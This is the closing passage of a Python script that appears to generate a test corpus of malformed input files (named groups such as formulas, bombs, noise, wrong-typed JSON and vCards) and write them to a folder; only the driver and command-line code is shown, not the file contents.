    yield from _formulas()
    yield from _bombs()
    yield from _noise(rng)
    yield from _json_wrong_types()
    yield from _vcards(rng)


def generate(folder: Path) -> list[Path]:
    """Write every corpus file into `folder` (made if missing); returns their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, make in makers():
        path = folder / name
        path.write_bytes(make())
        written.append(path)
    return written


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(__doc__.strip().splitlines()[2].strip(), file=sys.stderr)
        return 2
    files = generate(Path(argv[0]))
    size = sum(p.stat().st_size for p in files)
    print(f"{len(files)} files, {size / 1e6:.1f} MB, in {argv[0]}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
